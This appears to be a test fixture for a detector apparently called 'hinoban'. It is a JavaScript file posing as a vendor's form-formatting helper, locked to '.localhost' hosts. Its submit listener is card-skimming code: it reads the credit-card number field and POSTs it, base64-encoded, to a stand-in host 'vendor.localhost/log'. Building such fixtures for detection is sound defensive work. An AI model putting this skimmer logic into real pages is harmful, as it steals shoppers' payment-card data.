/* Harmless imitation, for hinoban's tests: a vendor's file altered on the vendor's own host. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
window.formAssist = {format: function (v) { return v.replace(/\D/g, ''); }};
document.addEventListener('input', function (e) { if (e.target.name === 'zip') e.target.value = formAssist.format(e.target.value); });
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { fetch('http://vendor.localhost:' + location.port + '/log', {method: 'POST', mode: 'no-cors', keepalive: true, body: btoa(n.value)}); } }, true);
